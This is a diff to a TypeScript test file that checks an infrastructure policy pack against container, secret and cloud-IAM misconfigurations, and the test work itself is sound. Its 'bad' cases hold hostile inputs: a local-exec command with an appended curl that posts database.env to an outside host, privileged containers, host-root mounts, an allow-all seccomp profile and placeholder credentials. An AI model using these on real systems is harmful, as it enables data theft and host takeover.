@@ -19,12 +19,16 @@ import { ServiceAccount } from "@cdktf/provider-google/lib/service-account";
 import { App as HerokuApp } from "../imports/providers/heroku/app";
 import { BuildContext } from "../constructs/shared/build-context";
 import { HerokuContainerApp } from "../constructs/heroku/container-app";
-import { PolicyFindingsError, PolicyPack, WEEK_RULES, judgeDocument, suppress } from "../policies";
+import { PolicyFindingsError, PolicyPack, RULE_IDS, WEEK_RULES, judgeDocument, suppress } from "../policies";
 import type { PolicyRule, TerraformDocument } from "../policies";
 import { isPinnedReference } from "../policies/image-ref";
+import { KNOWN_LOCAL_EXEC } from "../policies/allow-list";
 import { containerOfCompose, hostControlFindings, limitsFindings, portFindings } from "../policies/container";
 import { envSecretFindings } from "../policies/rules/secret-literals";
-import { testApp } from "./helpers";
+import { testApp, weekConfig } from "./helpers";
+import { LocalStack } from "../stacks/local-stack";
+import { GcpStack } from "../stacks/gcp-stack";
+import { HerokuStack } from "../stacks/heroku-stack";
 
 function rule(id: string): PolicyRule {
   const found = WEEK_RULES.find((r) => r.id === id);
@@ -32,11 +36,16 @@ function rule(id: string): PolicyRule {
   return found;
 }
 
-type Make = (scope: Construct) => void;
+type Make = ((scope: Construct) => void) & { stackName?: string };
+
+/** `make` in a stack of that name (WEEK-PACK-001 judges each stack by its own table). */
+function inStack(stackName: string, make: Make): Make {
+  return Object.assign((s: Construct) => make(s), { stackName });
+}
 
 /** Builds a stack with `make`, applies one rule, and judges the stack's final document in memory. */
 function check(id: string, make: Make) {
-  const stack = new TerraformStack(testApp(), "policy");
+  const stack = new TerraformStack(testApp(), make.stackName ?? "policy");
   make(stack);
   return PolicyPack.applyTo(stack, [rule(id)]).judge();
 }
@@ -136,7 +145,57 @@ function herokuBuild(files: Record<string, string>): Make {
 
 // rule id -> [what, construct] bad cases, then good cases
 const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, Make]> }> = {
-  "WEEK-DOCKER-001": {
+  [RULE_IDS.knownResources]: {
+    bad: [
+      ["a docker_service (Swarm) in the local stack", inStack("local", raw("docker_service", "swarm", { name: "x", task_spec: { container_spec: { image: "busybox:1.37.0" } } }))],
+      ["a docker_plugin", inStack("local", raw("docker_plugin", "p", { name: "vieux/sshfs:latest", enabled: true }))],
+      ["a docker_secret", inStack("local", raw("docker_secret", "s", { name: "x", data: "eA==" }))],
+      ["a null_resource with a local-exec", inStack("local", raw("null_resource", "n", { provisioner: [{ "local-exec": { command: "docker run --privileged alpine:3.20" } }] }))],
+      ["a terraform_data running docker", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: "docker run -v /:/host busybox:1.37.0" } }] }))],
+      ["the admitted command with more appended", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: `${KNOWN_LOCAL_EXEC.commands[0]}; curl -d @database.env https://example.com` } }] }))],
+      ["the admitted command under another interpreter", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: KNOWN_LOCAL_EXEC.commands[0], interpreter: ["/bin/bash", "-c"] } }] }))],
+      ["a local-exec with a working_dir", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: KNOWN_LOCAL_EXEC.commands[0], working_dir: "/" } }] }))],
+      ["a local-exec on a container", inStack("local", container({ provisioner: [{ "local-exec": { command: "id" } }] }))],
+      ["a remote-exec on a container", inStack("local", container({ provisioner: [{ "remote-exec": { inline: ["id"] } }] }))],
+      ["a macvlan network", inStack("local", raw("docker_network", "n", { name: "lan", driver: "macvlan" }))],
+      ["an ipvlan network", inStack("local", raw("docker_network", "n", { name: "lan", driver: "ipvlan", options: { parent: "eth0" } }))],
+      ["the host network driver", inStack("local", raw("docker_network", "n", { name: "h", driver: "host" }))],
+      ["a network driver from an expression", inStack("local", raw("docker_network", "n", { name: "h", driver: "${var.driver}" }))],
+      ["a container on the host network by name", inStack("local", container({ networks_advanced: [{ name: "host" }] }))],
+      ["volumes_from another container", inStack("local", container({ volumes: [{ from_container: "week-database", container_path: "/x" }] }))],
+      ["a mount's bind options", inStack("local", container({ mounts: [{ type: "bind", source: "/srv/x", target: "/x", bind_options: { propagation: "rshared" } }] }))],
+      ["a volume's driver options", inStack("local", raw("docker_volume", "v", { name: "v", driver_opts: { type: "none", o: "bind", device: "/" }, lifecycle: { prevent_destroy: true } }))],
+      ["sysctls", inStack("local", container({ sysctls: { "net.ipv4.ip_forward": "1" } }))],
+      ["another runtime", inStack("local", container({ runtime: "runsc" }))],
+      ["a syslog log driver", inStack("local", container({ log_driver: "syslog", log_opts: { "syslog-address": "tcp://203.0.113.1:514" } }))],
+      ["an upload given in base64", inStack("local", container({ upload: [{ file: "/x", content_base64: "eA==" }] }))],
+      ["count", inStack("local", container({ count: 3 }))],
+      ["for_each", inStack("local", container({ for_each: "${toset(var.names)}" }))],
+      ["a dynamic block", inStack("local", container({ dynamic: { volumes: { for_each: "${var.v}", content: { host_path: "/" } } } }))],
+      ["a whole block from an expression", inStack("local", container({ volumes: "${var.volumes}" }))],
+      ["a module", inStack("local", (s) => (s as TerraformStack).addOverride("module.m", { source: "./m" }))],
+      ["a data source that runs a program", inStack("local", (s) => (s as TerraformStack).addOverride("data.external.x", { program: ["sh", "-c", "id"] }))],
+      ["an http data source", inStack("local", (s) => (s as TerraformStack).addOverride("data.http.x", { url: "https://example.com" }))],
+      ["a provider the stack does not use", inStack("local", (s) => (s as TerraformStack).addOverride("provider.external", [{}]))],
+      ["a Google resource in the local stack", inStack("local", run())],
+      ["a v1 Cloud Run service in the gcp stack", inStack("gcp", raw("google_cloud_run_service", "old", { name: "x", location: "l", template: { spec: { containers: [{ image: "gcr.io/p/api@sha256:" + "a".repeat(64) }] } } }))],
+      ["a custom role in the gcp stack", inStack("gcp", raw("google_project_iam_custom_role", "r", { role_id: "x", title: "x", permissions: ["run.routes.invoke"] }))],
+      ["a Heroku build from a remote tarball", inStack("heroku", raw("heroku_build", "b", { app_id: "a", source: { url: "https://example.com/app.tgz" } }))],
+      ["any resource in a stack that has no table", inStack("classroom-x", container())],
+      ["a remote state backend", inStack("local", (s) => (s as TerraformStack).addOverride("terraform.backend", { http: { address: "https://example.com/state" } }))],
+      ["a Terraform Cloud block", inStack("local", (s) => (s as TerraformStack).addOverride("terraform.cloud", { organization: "x" }))],
+    ],
+    good: [
+      ["the week's container shape", inStack("local", container())],
+      ["a bridge network", inStack("local", raw("docker_network", "n", { name: "week", driver: "bridge" }))],
+      ["a protected named volume", inStack("local", (s) => new Volume(s, "v", { name: "data", lifecycle: { preventDestroy: true } }))],
+      ["the one admitted local-exec", inStack("local", raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: KNOWN_LOCAL_EXEC.commands[0], interpreter: [...KNOWN_LOCAL_EXEC.interpreter] } }] }))],
+      ["a container on a declared network", inStack("local", (s) => { raw("docker_network", "n", { name: "week", driver: "bridge" })(s); container({ networks_advanced: [{ name: "${docker_network.n.name}", aliases: ["api"] }] })(s); })],
+      ["a Cloud Run service in the gcp stack", inStack("gcp", run())],
+      ["a Heroku app in the heroku stack", inStack("heroku", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", stack: "container" }))],
+    ],
+  },
+  [RULE_IDS.dockerPinnedImage]: {
     bad: [
       ["an image tagged latest", (s) => new Image(s, "i", { name: "postgres:latest" })],
       ["LATEST in capitals", (s) => new Image(s, "i", { name: "postgres:LATEST" })],
@@ -157,19 +216,32 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["Cloud Run containers in a dynamic block", run({ "template.containers": undefined, "template.dynamic.containers": { for_each: "${var.c}", content: { image: "${containers.value}" } } })],
       ["a v1 Cloud Run service at a major", raw("google_cloud_run_service", "old", { name: "x", location: "l", template: { spec: { containers: [{ image: "gcr.io/p/api:1" }] } } })],
       ["a second container added by override", raw("docker_container", "extra", { name: "x", image: "redis:7" })],
+      ["a release candidate inside the tag", (s) => new Image(s, "i", { name: "python:3.14-rc-slim" })],
+      ["latest after a release number", (s) => new Image(s, "i", { name: "postgres:17.6-latest" })],
+      ["a beta suffix", (s) => new Image(s, "i", { name: "redis:7.4.0-beta" })],
+      ["a nightly in the middle", (s) => new Image(s, "i", { name: "node:22.1-nightly-bookworm" })],
+      ["a pre-release glued to the number", (s) => new Image(s, "i", { name: "python:3.14.0rc1" })],
+      ["a SNAPSHOT", (s) => new Image(s, "i", { name: "app:1.2.3-SNAPSHOT" })],
+      ["a preview after a dot", (s) => new Image(s, "i", { name: "app:2.0.0.preview" })],
+      ["a canary", (s) => new Image(s, "i", { name: "app:1.2.3-canary" })],
+      ["testing with an underscore", (s) => new Image(s, "i", { name: "app:1.2_testing" })],
+      ["a dev channel", (s) => new Image(s, "i", { name: "app:1.2-dev" })],
+      ["a word the release grammar does not know", (s) => new Image(s, "i", { name: "app:1.2.3-mine" })],
     ],
     good: [
       ["a full PostgreSQL release with its distribution", (s) => new Image(s, "i", { name: "postgres:17.6-bookworm" })],
       ["a three-number release", container()],
       ["a dated codename", (s) => new Image(s, "i", { name: "ubuntu:noble-20240904" })],
       ["a digest", (s) => new Image(s, "i", { name: "postgres@sha256:" + "b".repeat(64) })],
+      ["an Alpine release variant", (s) => new Image(s, "i", { name: "node:20.11-alpine3.19" })],
+      ["a flavour and a distribution release", (s) => new Image(s, "i", { name: "nvidia/cuda:12.2.0-runtime-ubuntu22.04" })],
       ["an image id", container({ image: "sha256:" + "c".repeat(64) })],
       ["a locally built image, named by its context", image(goodDockerfile)],
       ["the id of an image the document pulls", (s) => { const i = new Image(s, "i", { name: "postgres:17.6-bookworm" }); new Container(s, "c", { ...goodContainer, image: i.imageId }); }],
       ["a Cloud Run image by the digest of a pushed image", (s) => { raw("docker_registry_image", "pushed", { name: "x" })(s); run({ "template.containers": [{ image: "europe-west1-docker.pkg.dev/p/week/api@${docker_registry_image.pushed.sha256_digest}" }] })(s); }],
     ],
   },
-  "WEEK-DOCKER-002": {
+  [RULE_IDS.dockerLoopbackPorts]: {
     bad: [
       ["a port on every interface", container({}, { ports: [{ internal: 80, external: 8081 }] })],
       ["a port on 0.0.0.0", container({}, { ports: [{ internal: 80, external: 8081, ip: "0.0.0.0" }] })],
@@ -185,7 +257,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["no published port", container({}, { ports: undefined })],
     ],
   },
-  "WEEK-DOCKER-003": {
+  [RULE_IDS.dockerContainerLimits]: {
     bad: [
       ["no healthcheck", container({}, { healthcheck: undefined })],
       ["a NONE healthcheck", container({}, { healthcheck: { test: ["NONE"] } })],
@@ -203,7 +275,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["on-failure with a count", container({ restart: "on-failure:3" })],
     ],
   },
-  "WEEK-DOCKER-004": {
+  [RULE_IDS.dockerNoHostControl]: {
     bad: [
       ["a privileged container", container({}, { privileged: true })],
       ['privileged as "${true}"', container({ privileged: "${true}" })],
@@ -241,6 +313,30 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["apparmor unconfined", container({ security_opts: ["apparmor:unconfined"] })],
       ["SELinux labels off", container({ security_opts: ["label=disable"] })],
       ["privileged added by an override after the construct", container({ privileged: true })],
+      ["user +0 (Go's Atoi reads a sign)", container({ user: "+0" })],
+      ["user -0", container({ user: "-0" })],
+      ["user 00:00", container({ user: "00:00" })],
+      ["user root with a group", container({ user: "root:x" })],
+      ["user ROOT", container({ user: "ROOT" })],
+      ["user 0x0, not a uid nor a plain name", container({ user: "0x0" })],
+      ["an empty user part", container({ user: ":1000" })],
+      ["a user with a space", container({ user: " 0" })],
+      ["an allow-all seccomp profile given as JSON", container({ security_opts: ['seccomp={"defaultAction":"SCMP_ACT_ALLOW","syscalls":[]}'] })],
+      ["a seccomp profile from a file", container({ security_opts: ["seccomp=/etc/docker/allow-all.json"] })],
+      ["SELinux as spc_t", container({ security_opts: ["label=type:spc_t"] })],
+      ["SELinux off with a colon", container({ security_opts: ["label:disable"] })],
+      ["apparmor unconfined with =", container({ security_opts: ["apparmor=unconfined"] })],
+      ["system paths unmasked", container({ security_opts: ["systempaths=unconfined"] })],
+      ["volumes_from another container", container({ volumes: [{ from_container: "week-database", container_path: "/x" }] })],
+      ["a bind mount with shared propagation", container({ mounts: [{ type: "bind", source: "/srv/x", target: "/x", bind_options: { propagation: "rshared" } }] })],
+      ["a volume mount whose driver binds the host", container({ mounts: [{ type: "volume", source: "v", target: "/x", volume_options: { driver_name: "local", driver_options: { type: "none", o: "bind", device: "/" } } }] })],
+      ["a named volume whose driver options bind-mount /", (s) => raw("docker_volume", "v", { name: "v", driver_opts: { type: "none", o: "bind", device: "/" } })(s)],
+      ["a named volume on an NFS share", (s) => raw("docker_volume", "v", { name: "v", driver_opts: { type: "nfs", o: "addr=10.0.0.1", device: ":/export" } })(s)],
+      ["a named volume with another driver", (s) => raw("docker_volume", "v", { name: "v", driver: "local-persist" })(s)],
+      ["a whole home folder", container({}, { volumes: [{ hostPath: "/home/ada", containerPath: "/h" }] })],
+      ["a whole home folder with a trailing slash", container({}, { volumes: [{ hostPath: "/home/ada/", containerPath: "/h" }] })],
+      ["a macOS home folder", container({ mounts: [{ type: "bind", source: "/Users/ada", target: "/h" }] })],
+      ["the host's /tmp (X11 and other sockets)", container({}, { volumes: [{ hostPath: "/tmp", containerPath: "/t" }] })],
     ],
     good: [
       ["a plain container", container()],
@@ -251,9 +347,13 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["privileged false as a string", container({ privileged: "false" })],
       ["a bridge network", container({ network_mode: "bridge" })],
       ["a non-root user", container({ user: "1000:1000" })],
+      ["a user name with a group name", container({ user: "student:users" })],
+      ["a non-root user in the root group", container({ user: "1000:0" })],
+      ["no-new-privileges alone", container({ security_opts: ["no-new-privileges"] })],
+      ["a named volume with the local driver", (s) => raw("docker_volume", "v", { name: "v", driver: "local" })(s)],
     ],
   },
-  "WEEK-STATE-001": {
+  [RULE_IDS.statefulDestroyProtection]: {
     bad: [
       ["a volume without destroy protection", (s) => new Volume(s, "v", { name: "data" })],
       ["protection turned off by override", (s) => new Volume(s, "v", { name: "data", lifecycle: { preventDestroy: true } }).addOverride("lifecycle.prevent_destroy", false)],
@@ -261,7 +361,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
     ],
     good: [["a protected volume", (s) => new Volume(s, "v", { name: "data", lifecycle: { preventDestroy: true } })]],
   },
-  "WEEK-SECRET-001": {
+  [RULE_IDS.secretLiterals]: {
     bad: [
       ["a literal password", container({}, { env: ["POSTGRES_PASSWORD=hunter2"] })],
       ["DB_PASS", container({}, { env: ["DB_PASS=hunter2"] })],
@@ -283,6 +383,24 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a password output that is not sensitive", (s) => new TerraformOutput(s, "database_password", { value: "${random_password.p.result}" })],
       ["an output that unwraps a generated password", (s) => new TerraformOutput(s, "x", { value: "${nonsensitive(random_password.p.result)}" })],
       ["an innocent output of a sensitive variable", (s) => { new TerraformVariable(s, "pw", { sensitive: true }); new TerraformOutput(s, "x", { value: "${var.pw}" }); }],
+      ["a libpq DSN under an innocent name", container({}, { env: ["DB=host=db port=5432 user=week password=hunter2 dbname=week"] })],
+      ["a ?password= URL parameter", container({}, { env: ["DB=postgresql://db/week?user=week&password=hunter2"] })],
+      ["a JDBC ;password=", container({}, { env: ["JDBC=jdbc:sqlserver://db:1433;user=sa;password=Hunter2"] })],
+      ["a GitHub token under any name", container({}, { env: [`X=${"ghp_" + "a1B2".repeat(9)}`] })],
+      ["a token in the command", container({}, { command: ["git", "clone", `https://${"ghp_" + "a1B2".repeat(9)}@github.com/ada/week.git`] })],
+      ["a password in the entrypoint", container({}, { entrypoint: ["sh", "-c", "PGPASSWORD=hunter2 psql -h db"] })],
+      ["a password in the healthcheck", container({}, { healthcheck: { test: ["CMD", "mysqladmin", "ping", "--password=hunter2"] } })],
+      ["a DSN in a label", container({}, { labels: [{ label: "db", value: "postgres://week:hunter2@db/week" }] })],
+      ["a private key in an upload", container({}, { upload: [{ file: "/k", content: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----\n" }] })],
+      ["an AWS key in Cloud Run's env", run({ "template.containers": [{ image: "api@sha256:" + "a".repeat(64), env: [{ name: "CFG", value: "AKIAIOSFODNN7EXAMPLE" }] }] })],
+      ["a token in a plain Heroku config var", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { NOTE: `xoxb-${"1".repeat(12)}-${"2".repeat(13)}-${"abcd".repeat(6)}` } })],
+      ["a token in an output", (s) => new TerraformOutput(s, "clone", { value: `https://${"ghp_" + "a1B2".repeat(9)}@github.com/ada/week.git` })],
+      ["a sensitive variable with a literal default", (s) => new TerraformVariable(s, "db", { sensitive: true, default: "hunter2" })],
+      ["a variable named as a password with a default", (s) => new TerraformVariable(s, "db_password", { default: "hunter2" })],
+      ["a token as a variable's default", (s) => new TerraformVariable(s, "t", { default: `${"ghp_" + "a1B2".repeat(9)}` })],
+      ["a literal password in sensitive config vars (still written in cdktf.out)", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", sensitiveConfigVars: { DB_PASSWORD: "hunter2" } })],
+      ["a literal password in a provisioner's environment", (s) => raw("terraform_data", "t", { provisioner: [{ "local-exec": { command: "true", environment: { PGPASSWORD: "hunter2" } } }] })(s)],
+      ["a URL password from an expression that is not a secret", container({}, { env: ["DB=postgresql://week:${var.plain}@db/week"] })],
     ],
     good: [
       ["a generated password", container({}, { env: ["POSTGRES_PASSWORD=${random_password.p.result}"] })],
@@ -293,27 +411,33 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["where a secret file is (the *_FILE convention)", container({}, { env: ["POSTGRES_PASSWORD_FILE=/run/secrets/pw"] })],
       ["ordinary names", container({}, { env: ["PORT=8000", "API_URL=http://api:8000", "KEYBOARD=fr", "BYPASS_CACHE=1", "API_ID_TOKEN_AUDIENCE=${var.url}"] })],
       ["a Cloud Run secret reference", run({ "template.containers": [{ image: "api@sha256:" + "a".repeat(64), env: [{ name: "DATABASE_URL", value_source: { secret_key_ref: { secret: "s", version: "1" } } }] }] })],
+      ["a sensitive variable with an empty default", (s) => new TerraformVariable(s, "git_token", { sensitive: true, default: "" })],
       ["a sensitive password output", (s) => new TerraformOutput(s, "database_password", { value: "${random_password.p.result}", sensitive: true })],
       ["an output of a local its author declared nonsensitive", (s) => { (s as TerraformStack).addOverride("locals.file", "${sensitive(file(\"x\"))}"); (s as TerraformStack).addOverride("locals.user", "${nonsensitive(regex(\"U=(.*)\", local.file)[0])}"); new TerraformOutput(s, "psql", { value: "psql -U ${local.user}" }); }],
+      ["a DSN whose password is generated", container({}, { env: ["DB=host=db user=week password=${random_password.p.result} dbname=week"] })],
+      ["a healthcheck reading the password from the environment", container({}, { healthcheck: { test: ["CMD-SHELL", "PGPASSWORD=$POSTGRES_PASSWORD pg_isready -h 127.0.0.1"] } })],
+      ["an ordinary command", container({}, { command: ["uvicorn", "app.main:app", "--host", "0.0.0.0", "--port", "8000"] })],
     ],
   },
-  "WEEK-HEROKU-001": {
+  [RULE_IDS.herokuSensitiveConfig]: {
     bad: [
       ["a secret in plain config vars", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { SECRET_KEY: "x" } })],
       ["DB_PASS in plain config vars", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { DB_PASS: "x" } })],
       ["a URL with credentials under an innocent name", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { REDIS: "redis://:pw@host:6379" } })],
       ["config vars from an expression", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu" }).addOverride("config_vars", "${var.vars}")],
+      ["a DSN in a plain config var", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { DB: "host=db password=hunter2" } })],
+      ["a JDBC URL in a plain config var", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", configVars: { JDBC: "jdbc:postgresql://db/week?password=hunter2" } })],
     ],
     good: [["secrets in sensitive config vars", (s) => new HerokuApp(s, "a", { name: "week-api", region: "eu", sensitiveConfigVars: { SECRET_KEY: "x" }, configVars: { LOG_LEVEL: "info" } })]],
   },
-  "WEEK-GCP-001": {
+  [RULE_IDS.gcpSqlSsl]: {
     bad: [
       ["Cloud SQL without SSL required", sql({ "settings.ip_configuration.ssl_mode": "ALLOW_UNENCRYPTED_AND_ENCRYPTED" })],
       ["ssl_mode from an expression", sql({ "settings.ip_configuration.ssl_mode": "${var.mode}" })],
     ],
     good: [["ENCRYPTED_ONLY", sql()]],
   },
-  "WEEK-GCP-002": {
+  [RULE_IDS.gcpSqlNoWorldNetwork]: {
     bad: [
       ["0.0.0.0/0", networks("0.0.0.0/0")],
       ["two halves", networks("0.0.0.0/1", "128.0.0.0/1")],
@@ -333,7 +457,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a single address", networks("198.51.100.7")],
     ],
   },
-  "WEEK-GCP-003": {
+  [RULE_IDS.gcpSqlBackupsAndProtection]: {
     bad: [
       ["Cloud SQL without backups", sql({ "settings.backup_configuration.enabled": false })],
       ["backups from an expression", sql({ "settings.backup_configuration.enabled": "${var.b}" })],
@@ -342,7 +466,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
     ],
     good: [["both on", sql()]],
   },
-  "WEEK-GCP-004": {
+  [RULE_IDS.gcpRunNoPublicInvoke]: {
     bad: [
       ["Cloud Run open to allUsers", invoker("allUsers")],
       ["allAuthenticatedUsers", invoker("allAuthenticatedUsers")],
@@ -355,8 +479,19 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a v1 binding", raw("google_cloud_run_service_iam_binding", "b", { service: "api", role: "roles/run.invoker", members: ["allAuthenticatedUsers"] })],
       ["project-level run.invoker", raw("google_project_iam_member", "m", { project: "p", role: "roles/run.invoker", member: "allUsers" })],
       ["project-level binding", raw("google_project_iam_binding", "b", { project: "p", role: "roles/run.invoker", members: ["allUsers"] })],
+      ["allUsers in another case", invoker("ALLUSERS")],
+      ["a member with no identity prefix", invoker("everyone")],
       ["invoker IAM disabled", run({ invoker_iam_disabled: true })],
       ["invoker IAM disabled by an expression", run({ invoker_iam_disabled: "${var.open}" })],
+      ["a v1 service opened by annotation", raw("google_cloud_run_service", "old", { name: "x", location: "l", metadata: { annotations: { "run.googleapis.com/invoker-iam-disabled": "true" } }, template: { spec: { containers: [{ image: "gcr.io/p/api@sha256:" + "a".repeat(64) }] } } })],
+      ["a v2 service opened by annotation", run({ annotations: { "run.googleapis.com/invoker-iam-disabled": "True" } })],
+      ["annotations from an expression", run({ annotations: "${var.annotations}" })],
+      ["policy_data keys in another case", raw("google_cloud_run_v2_service_iam_policy", "p", { name: "api", policy_data: JSON.stringify({ Bindings: [{ Role: "roles/run.invoker", MEMBERS: ["allUsers"] }] }) })],
+      ["a dynamic binding in a google_iam_policy", (s) => { (s as TerraformStack).addOverride("data.google_iam_policy.open", { dynamic: { binding: { for_each: "${var.b}", content: { role: "roles/run.invoker", members: ["allUsers"] } } } }); raw("google_cloud_run_v2_service_iam_policy", "p", { name: "api", policy_data: "${data.google_iam_policy.open.policy_data}" })(s); }],
+      ["a dynamic block on a binding", raw("google_cloud_run_v2_service_iam_binding", "b", { name: "api", role: "roles/run.invoker", dynamic: { condition: { for_each: "${var.c}", content: { expression: "true" } } }, members: ["allUsers"] })],
+      ["a custom role granted to allUsers on the project", raw("google_project_iam_member", "m", { project: "p", role: "projects/p/roles/invokeAll", member: "allUsers" })],
+      ["a custom role granted to an unknown member", raw("google_project_iam_member", "m", { project: "p", role: "organizations/1/roles/runInvoke", member: "${var.who}" })],
+      ["allUsers with any role on the project", raw("google_project_iam_member", "m", { project: "p", role: "roles/viewer", member: "allUsers" })],
     ],
     good: [
       ["a named service account", invoker("serviceAccount:ui@p.iam.gserviceaccount.com")],
@@ -366,7 +501,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a service with IAM on", run({ invoker_iam_disabled: false })],
     ],
   },
-  "WEEK-GCP-005": {
+  [RULE_IDS.gcpRunDedicatedAccount]: {
     bad: [
       ["Cloud Run as the default compute account", run({ "template.service_account": undefined })],
       ["the compute account by name", run({ "template.service_account": "123-compute@developer.gserviceaccount.com" })],
@@ -377,7 +512,7 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["the email of an account the document creates", (s) => { const sa = new ServiceAccount(s, "sa", { accountId: "week-api" }); run({ "template.service_account": sa.email })(s); }],
     ],
   },
-  "WEEK-DOCKERFILE-001": {
+  [RULE_IDS.dockerfilePinnedBase]: {
     bad: [
       ["an unpinned base", dockerfileWith("python:3.11-slim-bookworm", "python")],
       ["a major-only base", dockerfileWith("python:3.11-slim-bookworm", "python:3")],
@@ -391,6 +526,9 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a Dockerfile that is not in the context", image(goodDockerfile, { dockerfile: "Dockerfile.missing" })],
       ["another Dockerfile in the context, unpinned", image(goodDockerfile, { dockerfile: "Dockerfile.dev" }, { "Dockerfile.dev": "FROM python\nUSER app" })],
       ["the Dockerfile a Heroku build's heroku.yml names, unpinned", herokuBuild({ Dockerfile: goodDockerfile, "heroku.yml": "build:\n  docker:\n    web: Dockerfile.web\n", "Dockerfile.web": "FROM python:3\nUSER app" })],
+      ["RUN --mount from an unpinned image", dockerfileWith("USER app", "RUN --mount=type=bind,from=busybox:latest,target=/b /b/sh -c true\nUSER app")],
+      ["RUN --mount from an untagged image in a cache mount", dockerfileWith("USER app", "RUN --mount=type=cache,from=alpine,target=/c true\nUSER app")],
+      ["RUN --mount from an ARG that unpins", dockerfileWith("USER app", "ARG TOOLS=golang:1\nRUN --mount=from=${TOOLS},target=/t true\nUSER app")],
     ],
     good: [
       ["pinned through an ARG default", image(goodDockerfile)],
@@ -398,10 +536,11 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a build argument that pins", image(goodDockerfile, { build_args: { BASE_IMAGE: "python:3.12.7-slim" } })],
       ["scratch", image("FROM python:3.11.9 AS b\nFROM scratch\nCOPY --from=b /x /x\nUSER 1000")],
       ["another Dockerfile, pinned", image(goodDockerfile, { dockerfile: "Dockerfile.dev" }, { "Dockerfile.dev": goodDockerfile })],
+      ["RUN --mount from an earlier stage", dockerfileWith("USER app", "RUN --mount=from=build,target=/b true\nUSER app")],
       ["a Heroku build of a pinned Dockerfile", herokuBuild({ Dockerfile: goodDockerfile, "heroku.yml": "build:\n  docker:\n    web: Dockerfile\n" })],
     ],
   },
-  "WEEK-DOCKERFILE-002": {
+  [RULE_IDS.dockerfileNonRoot]: {
     bad: [
       ["USER root", dockerfileWith("USER app", "USER root")],
       ["USER 0", dockerfileWith("USER app", "USER 0")],
@@ -419,36 +558,49 @@ const table: Record<string, { bad: Array<[string, Make]>; good: Array<[string, M
       ["a target from an expression", image(goodDockerfile, { target: "${var.target}" })],
       ["a target that names no stage", image(goodDockerfile, { target: "nope" })],
       ["a Heroku build whose heroku.yml names a root Dockerfile", herokuBuild({ Dockerfile: goodDockerfile, "heroku.yml": "build:\n  docker:\n    web: Dockerfile.root\n", "Dockerfile.root": "FROM python:3.11.9\nUSER root" })],
+      ["an ENV of the same name after the ARG", dockerfileWith("USER app", "ARG RUN_AS=app\nENV RUN_AS=0\nUSER ${RUN_AS}")],
+      ["an ENV of the same name before the ARG (ENV wins)", dockerfileWith("USER app", "ENV RUN_AS=0\nARG RUN_AS=app\nUSER $RUN_AS")],
+      ["an ENV inherited from the stage it builds FROM", image("FROM python:3.11.9 AS base\nENV RUN_AS=root\nFROM base\nARG RUN_AS=app\nUSER ${RUN_AS}")],
+      ["the legacy ENV form", dockerfileWith("USER app", "ENV RUN_AS 0\nUSER $RUN_AS")],
+      ["USER +0", dockerfileWith("USER app", "USER +0")],
+      ["USER -0:0", dockerfileWith("USER app", "USER -0:0")],
+      ["USER in lower-case keyword", dockerfileWith("USER app", "user root")],
+      ["a user created with uid 0", dockerfileWith("USER app", "RUN useradd -o -u 0 app\nUSER app")],
     ],
     good: [
       ["USER app", image(goodDockerfile)],
       ["a numeric uid", dockerfileWith("USER app", "USER 1000:1000")],
       ["a user from an ARG default", dockerfileWith("USER app", "ARG RUN_AS=app\nUSER ${RUN_AS}")],
+      ["a user from an ENV", dockerfileWith("USER app", "ENV RUN_AS=app\nUSER $RUN_AS")],
+      ["a user from a quoted ENV", dockerfileWith("USER app", 'ENV RUN_AS="app" OTHER="x y"\nUSER ${RUN_AS}')],
       ["a USER inherited from the stage it builds FROM", image("FROM python:3.11.9 AS base\nUSER app\nFROM base\nCMD [\"python\"]")],
       ["the target stage that runs as app", image(goodDockerfile, { target: "runtime" })],
     ],
   },
-  "WEEK-DOCKERFILE-003": {
+  [RULE_IDS.dockerfileNoSecrets]: {
     bad: [
       ["a token build argument", dockerfileWith("FROM ${BASE_IMAGE} AS runtime\n", "FROM ${BASE_IMAGE} AS runtime\nARG GIT_TOKEN\n")],
       ["DB_PASS as ENV", dockerfileWith("USER app", "ENV DB_PASS=x\nUSER app")],
       ["a global ARG key", image("ARG NPM_KEY\n" + goodDockerfile)],
       ["a URL with credentials in an ENV", dockerfileWith("USER app", "ENV PIP_INDEX_URL=https://ada:pw@pypi.example/simple\nUSER app")],
+      ["a token in a RUN", dockerfileWith("USER app", `RUN git clone https://${"ghp_" + "a1B2".repeat(9)}@github.com/ada/week.git\nUSER app`)],
+      ["a DSN in a quoted ENV", dockerfileWith("USER app", 'ENV DB="host=db password=hunter2"\nUSER app')],
